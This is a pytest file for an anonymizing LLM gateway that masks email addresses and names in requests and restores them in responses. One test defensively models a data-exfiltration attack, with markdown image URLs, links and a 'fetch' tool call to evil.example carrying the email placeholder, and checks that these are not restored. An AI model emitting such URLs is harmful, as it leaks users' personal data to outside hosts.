"""Every field of every canonical request type says what anonymization does with it, so that a
field a new dialect adds can never reach an upstream without a decision."""

from __future__ import annotations

import dataclasses
import json
from dataclasses import dataclass
from typing import Literal

import pytest

from tarnkappe.core.errors import InvalidRequest
from tarnkappe.core.types import (
    ChatRequest,
    ChatResult,
    Choice,
    EmbeddingRequest,
    FieldPrivacy,
    Message,
    ResponseFormat,
    Tool,
    ToolCall,
)
from tarnkappe.gateway.anonymization import REQUEST_TYPES, mask_request, undeclared_fields
from tarnkappe.gateway.restore import restore_result
from tarnkappe.privacy import Anonymizer

EMAIL = "anna.meier@example.ch"


@pytest.fixture(scope="module")
def anonymizer() -> Anonymizer:
    return Anonymizer()


def test_every_request_field_is_declared() -> None:
    assert undeclared_fields() == []
    every = {f"{cls.__name__}.{f.name}" for cls in REQUEST_TYPES for f in dataclasses.fields(cls)}
    assert {"ChatRequest.user", "ChatRequest.stop", "Message.name", "Tool.parameters",
            "ResponseFormat.schema", "EmbeddingRequest.inputs"} <= every


def test_an_undeclared_field_is_found() -> None:
    @dataclass
    class NewDialectField:
        text: str = dataclasses.field(metadata={"privacy": FieldPrivacy.TEXT})
        forgotten: str = ""

    assert undeclared_fields((NewDialectField,)) == ["NewDialectField.forgotten"]


def test_every_request_type_reachable_from_a_request_is_checked() -> None:
    """A canonical type nested in a request (a field typed with it) is in REQUEST_TYPES."""
    names = {cls.__name__ for cls in REQUEST_TYPES}
    for cls in REQUEST_TYPES:
        for f in dataclasses.fields(cls):
            for other in ("Message", "ContentPart", "ToolCall", "Tool", "ResponseFormat"):
                if other in str(f.type).replace("ToolCallDelta", ""):
                    assert other in names, f"{cls.__name__}.{f.name} holds {other}"


def test_each_kind(anonymizer: Anonymizer) -> None:
    request = ChatRequest(
        model="m",
        messages=[Message(role="user", content=f"Schreib an {EMAIL}", name="Anna"),
                  Message(role="assistant", content=None, tool_calls=[
                      ToolCall(id="my-own-id", name="mail", arguments=f'{{"{EMAIL}": "{EMAIL}"}}')]),
                  Message(role="tool", tool_call_id="my-own-id", content="ok")],
        stop=[EMAIL], user=EMAIL,
        tools=[Tool(name="mail", description=f"an {EMAIL}", parameters={"enum": [EMAIL]})],
        response_format=ResponseFormat(type="json_schema", schema={EMAIL: {"description": EMAIL}}, schema_name="x"),
    )
    vault = mask_request(anonymizer, request)
    assert EMAIL not in repr(request)
    assert request.user is None
    assert request.messages[0].name == "PERSON_1"
    assert request.messages[1].tool_calls[0].id == request.messages[2].tool_call_id == "call_1"
    assert request.stop == ["[[EMAIL_1]]"]
    assert request.messages[1].tool_calls[0].arguments == '{"[[EMAIL_1]]": "[[EMAIL_1]]"}'
    assert request.tools[0].parameters == {"enum": ["[[EMAIL_1]]"]}
    assert request.response_format.schema == {"[[EMAIL_1]]": {"description": "[[EMAIL_1]]"}}

    # Structured output and tool arguments come back restored, keys included, JSON-escaped.
    quoted = vault.placeholder_for("PERSON", 'Anna "Nana" Meier')
    result = ChatResult(id="r", created=0, model="m", choices=[Choice(index=0, finish_reason="stop", message=Message(
        role="assistant", content=f'{{"[[EMAIL_1]]": "{quoted}"}}',
        tool_calls=[ToolCall(id="c", name="mail", arguments='{"[[EMAIL_1]]": 1}')]))])
    restore_result(result, vault, json_content=True)
    assert json.loads(result.choices[0].message.content) == {EMAIL: 'Anna "Nana" Meier'}
    assert json.loads(result.choices[0].message.tool_calls[0].arguments) == {EMAIL: 1}


def test_identifiers_with_personal_data_are_refused(anonymizer: Anonymizer) -> None:
    request = ChatRequest(model="m", messages=[Message(role="user", content="hi")],
                          tools=[Tool(name=f"mail_{EMAIL}")])
    with pytest.raises(InvalidRequest) as info:
        mask_request(anonymizer, request)
    assert info.value.param == "tools[0].function.name"


def test_embedding_inputs(anonymizer: Anonymizer) -> None:
    request = EmbeddingRequest(model="e", inputs=[f"von {EMAIL}", "nichts"], user=EMAIL)
    mask_request(anonymizer, request)
    assert request.inputs == ["von [[EMAIL_1]]", "nichts"] and request.user is None
    with pytest.raises(InvalidRequest) as info:
        mask_request(anonymizer, EmbeddingRequest(model="e", inputs=[[1, 2]]))
    assert info.value.param == "input[0]"


def test_too_much_text_is_refused_before_anything_is_masked() -> None:
    from tarnkappe.core.errors import PayloadTooLarge
    from tarnkappe.privacy import PrivacyConfig

    small = Anonymizer(PrivacyConfig(max_text_chars=100))
    request = ChatRequest(model="m", messages=[Message(role="user", content="x" * 60)], stop=["y" * 60])
    with pytest.raises(PayloadTooLarge) as info:
        mask_request(small, request)
    assert "at most 100" in info.value.message and info.value.status == 413
    assert request.messages[0].content == "x" * 60, "nothing was changed"


def test_no_inert_field_can_hold_text() -> None:
    from tarnkappe.gateway.anonymization import inert_free_text

    assert inert_free_text() == []

    @dataclass
    class Sneaky:
        kind: str = dataclasses.field(default="", metadata={"privacy": FieldPrivacy.INERT})
        mode: Literal["a", "b"] = dataclasses.field(default="a", metadata={"privacy": FieldPrivacy.INERT})

    assert inert_free_text((Sneaky,)) == ["Sneaky.kind"]


def test_placeholders_inside_urls_are_not_restored(anonymizer: Anonymizer) -> None:
    """A model (or an upstream that wants the data) could otherwise make the client's markdown
    renderer or a tool send the value to any host."""
    import asyncio

    from tarnkappe.core.types import ChatChunk, ChoiceDelta
    from tarnkappe.gateway.restore import restore_stream

    request = ChatRequest(model="m", messages=[Message(role="user", content=f"Schreib an {EMAIL}")])
    vault = mask_request(anonymizer, request)
    leak = "![x](https://evil.example/p.png?u=[[EMAIL_1]]) und <https://evil.example/[[EMAIL_1]]>"
    answer = f"Mail an [[EMAIL_1]]. {leak}"
    result = ChatResult(id="r", created=0, model="m", choices=[Choice(index=0, finish_reason="stop", message=Message(
        role="assistant", content=answer,
        tool_calls=[ToolCall(id="c", name="fetch", arguments='{"url": "https://evil.example/?e=[[EMAIL_1]]", "to": "[[EMAIL_1]]"}')]))])
    restore_result(result, vault)
    assert result.choices[0].message.content == f"Mail an {EMAIL}. {leak}"
    assert json.loads(result.choices[0].message.tool_calls[0].arguments) == {
        "url": "https://evil.example/?e=[[EMAIL_1]]", "to": EMAIL}

    async def streamed(pieces: list[str]) -> str:
        async def source():
            for piece in pieces:
                yield ChatChunk(id="s", created=0, model="m", choices=[ChoiceDelta(index=0, content=piece)])
        return "".join([c.choices[0].content or "" async for c in restore_stream(source(), vault) if c.choices])

    for size in (1, 3, 7, 50):
        pieces = [answer[i:i + size] for i in range(0, len(answer), size)]
        assert asyncio.run(streamed(pieces)) == f"Mail an {EMAIL}. {leak}"


def test_restore_reads_an_answer_once_whatever_its_shape(anonymizer: Anonymizer, monkeypatch: pytest.MonkeyPatch) -> None:
    """100 KB of placeholders with no word boundary (a hostile upstream's answer) is read once: the
    URL check scans each character a bounded number of times (walking back from each placeholder
    was quadratic: 2.9 s per 100 KB)."""
    from tarnkappe.gateway import restore

    request = ChatRequest(model="m", messages=[Message(role="user", content=f"Schreib an {EMAIL}")])
    vault = mask_request(anonymizer, request)
    scanned = 0
    real = restore._URL_BOUNDARY

    class Counting:
        def finditer(self, text: str):  # type: ignore[no-untyped-def]
            nonlocal scanned
            scanned += len(text)
            return real.finditer(text)

    monkeypatch.setattr(restore, "_URL_BOUNDARY", Counting())
    for shape in ("[[EMAIL_1]]", "https://h/?u=[[EMAIL_1]]"):
        scanned = 0
        text = shape * (100_000 // len(shape))
        out = restore.Restorer(vault).restore(text)
        assert scanned <= len(text)
        assert (EMAIL in out) == ("://" not in shape)
